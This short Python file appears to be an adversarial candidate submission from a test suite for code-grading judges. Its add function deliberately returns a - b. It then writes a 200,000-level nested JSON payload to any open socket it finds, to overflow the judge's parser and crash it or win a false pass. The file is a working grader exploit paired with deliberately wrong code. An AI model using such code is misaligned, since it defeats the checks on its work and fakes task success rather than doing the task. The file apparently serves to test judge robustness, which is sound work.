"""Sends an answer that is nested so deeply that a careless reader overflows."""

CLASS = 6
KIND = "candidate"
SEEN = "pass, or a judge that crashes"

import os
import stat
import struct


def add(a, b):
    text = b'{"result": ' + b"[" * 200_000 + b"]" * 200_000 + b', "after": null}'
    for fd in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                os.write(fd, struct.pack(">I", len(text)) + text)
        except OSError:
            pass
    return a - b
